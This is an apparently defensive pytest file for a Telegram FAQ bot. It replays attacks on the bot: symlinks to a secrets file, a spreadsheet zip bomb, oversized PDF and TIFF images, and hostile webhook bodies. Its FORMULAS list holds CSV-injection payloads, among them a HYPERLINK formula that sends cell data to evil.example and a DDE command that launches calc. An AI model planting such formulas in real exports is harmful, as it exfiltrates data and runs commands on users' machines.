"""The holes an attack on a running bot found (issue 39), each tried again the way the attacker did:
links and names in the documents folder, a spreadsheet bomb, formulas in exported CSV, a PDF page and a
TIFF frame too large to render, and hostile webhook bodies and deliveries."""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import threading
import time
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from PIL import Image

from benchmarks.samples import spreadsheet_bomb
from bot.faq import MAX_QUESTION_CHARS, MAX_UNZIPPED_BYTES
from bot.state.history import Asked, new_ref
from embeddings.documents.formats import DocumentReader
from embeddings.documents.ocr import Ocr
from tests.test_bot import _free_port, _post_update
from tests.test_history import _history

SECRET = "TANYA_BOT_TOKEN=123456:rahasia-zebra-7731"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_folder(tmp_path: Path) -> Path:
    docs, outside = tmp_path / "docs", tmp_path / "outside"
    docs.mkdir()
    outside.mkdir()
    (outside / ".env").write_text(SECRET + "\n", encoding="utf-8")
    (docs / "cuti.md").write_text(
        "# Cuti\n\nCuti tahunan adalah dua belas hari kerja setiap tahun.\n", encoding="utf-8"
    )
    (docs / "settings.txt").symlink_to(outside / ".env")  # a link out of the folder
    (docs / "salinan.md").symlink_to(docs / "cuti.md")  # a link inside it: read
    (docs / "luar").symlink_to(outside, target_is_directory=True)  # a link to a folder: not followed
    os.mkfifo(docs / "pipa.txt")  # reading it would block for ever
    Path(os.fsdecode(os.fsencode(docs) + b"/bad\xffname.md")).write_text("# Parkir\n\nTamu parkir di B1.\n")
    return docs


def test_tanya_index_reads_only_regular_files_inside_the_folder_and_skips_the_rest_with_one_line_each(
    run_tanya, tmp_path: Path
):
    docs = _hostile_folder(tmp_path)
    env = {"TANYA_DOCS_DIR": str(docs)}
    result = run_tanya("index", env=env)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("Indexed 2 documents")  # cuti.md and the link to it
    skipped = [line for line in result.stderr.splitlines() if line.startswith("skipped ")]
    assert skipped == [
        "skipped bad\\xffname.md: its name is not valid UTF-8; rename it",
        "skipped luar: is a link to a folder, not followed",
        "skipped pipa.txt: is not a regular file",
        "skipped settings.txt: is a link out of the documents folder",
    ]
    for question in ("TANYA_BOT_TOKEN", "rahasia zebra"):
        found = json.loads(run_tanya("ask", "--json", question, env=env).stdout)
        assert "rahasia" not in json.dumps(found) and found["document"] in ("cuti.md", "salinan.md")


def test_faq_import_refuses_a_spreadsheet_bomb_a_question_too_long_and_one_question_with_two_answers(
    run_tanya, tmp_path: Path
):
    bomb = spreadsheet_bomb(tmp_path / "bom.xlsx", MAX_UNZIPPED_BYTES + 2**20)
    assert bomb.stat().st_size < 2**20
    started = time.monotonic()
    refused = run_tanya("faq", "import", str(bomb))
    assert refused.returncode == 2 and "unzips to 101 MiB, over the 100 MiB limit" in refused.stderr
    assert time.monotonic() - started < 30
    rows = [
        ["question", "answer"],
        ["Kapan kantor buka?", "Pukul 08.00."],
        ["x" * (MAX_QUESTION_CHARS + 1), "Ya."],
        ["kapan  KANTOR buka?", "Pukul 09.00."],
        ["Di mana parkir?", "Di B1."],
        ["Kapan kantor buka?", "Pukul 08.00."],
    ]
    conflicting = tmp_path / "faq.csv"
    with conflicting.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    refused = run_tanya("faq", "import", str(conflicting))
    assert refused.returncode == 2
    assert f"line 3: the question is {MAX_QUESTION_CHARS + 1} characters long" in refused.stderr
    assert "line 4: the question of line 2 again, with another answer" in refused.stderr
    assert "line 6" not in refused.stderr  # the same question with the same answer is no conflict
    assert run_tanya("faq", "list").stdout == ""  # nothing of a refused file is imported


def test_no_cell_of_an_exported_csv_starts_a_formula_and_a_faq_export_imports_back_unchanged(
    run_tanya, data_dir: Path, tmp_path: Path
):
    faq = tmp_path / "faq.csv"
    with faq.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["question", "answer"], *[[f"{formula} ?", formula] for formula in FORMULAS]])
    assert run_tanya("faq", "import", str(faq)).returncode == 0
    listed = run_tanya("faq", "list").stdout
    history = _history(data_dir, 90).start()  # questions asked in chat are kept as asked
    for number, formula in enumerate(FORMULAS):
        history.record(
            Asked(
                new_ref(),
                time.time(),
                "private",
                "en",
                history.user(number),
                formula,
                "a.md",
                1,
                1,
                0.1,
                True,
                0.01,
                None,
            )
        )
    history.close()
    exported, report = tmp_path / "export.csv", tmp_path / "report.csv"
    assert run_tanya("faq", "export", str(exported)).returncode == 0
    assert run_tanya("report", "--csv", str(report)).returncode == 0
    for written in (exported, report):
        with written.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert len(cells) >= 2 * len(FORMULAS) and not [
            cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        ], written
    assert sum(cell.startswith("'=") for cell in exported.read_text(encoding="utf-8").split(",")) >= 2
    assert run_tanya("faq", "import", str(exported)).returncode == 0
    assert run_tanya("faq", "list").stdout == listed  # read back as it was taught


def _read(name: str, data: bytes):
    with DocumentReader(ocr=Ocr()) as reader:
        return reader.read(name, data)


def test_a_pdf_page_or_tiff_frame_too_large_is_refused_before_it_is_rendered(tmp_path: Path):
    pdf = pdfium.PdfDocument.new()
    pdf.new_page(14_400, 14_400)  # 200 inches: 60,000 pixels a side at 300 dpi
    buffer = io.BytesIO()
    pdf.save(buffer)
    assert len(buffer.getvalue()) < 1000
    with pytest.raises(ValueError, match=r"page 1 is too large an image \(60000 × 60000 pixels, over 80 million\)"):
        _read("poster.pdf", buffer.getvalue())
    frames = io.BytesIO()
    first, second = Image.new("1", (10, 10), 1), Image.new("1", (10_000, 9_000), 1)  # 90 M pixels: Pillow allows 160 M
    first.save(frames, "TIFF", compression="group4", save_all=True, append_images=[second])
    with pytest.raises(ValueError, match=r"page 2 is too large an image \(10000 × 9000 pixels"):
        _read("pindaian.tiff", frames.getvalue())


def _raw_post(port: int, body: bytes, secret: str = "s3cret-token", length: int | None = None) -> int:
    """POST ``body`` to the webhook as is; the status, or 0 when the server closed the connection instead."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.putrequest("POST", "/hook")
        connection.putheader("Content-Type", "application/json")
        connection.putheader("X-Telegram-Bot-Api-Secret-Token", secret)
        connection.putheader("Content-Length", str(len(body) if length is None else length))
        connection.endheaders()
        connection.send(body)
        return connection.getresponse().status
    except (ConnectionError, http.client.HTTPException):
        return 0
    finally:
        connection.close()


def test_the_webhook_refuses_bodies_too_large_or_not_an_update_and_answers_copies_delivered_at_once_once(bot_factory):
    port = _free_port()
    bot = bot_factory(mode="webhook", webhook_port=port)
    bot.standin.wait_for(lambda c: c.method == "setWebhook")
    for body in (b"[1,2,3]", b"null", b'"x"', b"{", b'{"update_id": "x", "message": 3}'):
        assert _raw_post(port, body) == 400, body
    assert _raw_post(port, b"{" + b" " * (99 * 2**20), secret="wrong") in (0, 400)  # never read whole
    chat = {"id": 3101, "type": "private"}
    message = {
        "message_id": 7,
        "date": int(time.time()),
        "chat": chat,
        "text": "Why is energy a key area of cooperation?",
        "from": {"id": 3101, "is_bot": False, "first_name": "W", "language_code": "en"},
    }
    statuses: list[int] = []
    copies = [
        threading.Thread(
            target=lambda: statuses.append(
                _post_update(port, {"update_id": 77, "message": message}, secret="s3cret-token")
            )
        )
        for _ in range(3)
    ]
    for copy in copies:
        copy.start()
    for copy in copies:
        copy.join()
    assert sorted(statuses)[0] == 200 and set(statuses) <= {200, 503}
    time.sleep(2)  # room for a second answer, were one to come
    answers = [c for c in bot.standin.calls if c.method == "sendMessage" and c.params["chat_id"] == 3101]
    assert len(answers) == 1 and "section 4, paragraph 2" in answers[0].params["text"]
    assert _post_update(port, {"update_id": 77, "message": message}, secret="s3cret-token") == 200  # handled: 200


def test_an_update_the_library_cannot_read_is_logged_once_and_polling_goes_on(bot_factory, caplog):
    bot = bot_factory()
    unreadable = bot.standin.push({"message": {"message_id": "not a number", "chat": 5, "date": "never"}})
    reply = bot.ask("Why is energy a key area of cooperation?", user_id=3201)
    assert "section 4, paragraph 2" in reply["text"]
    time.sleep(2)
    skipped = [r for r in caplog.records if "cannot be read was skipped" in r.getMessage()]
    assert len(skipped) == 1 and f"update_id {unreadable}" in skipped[0].getMessage()
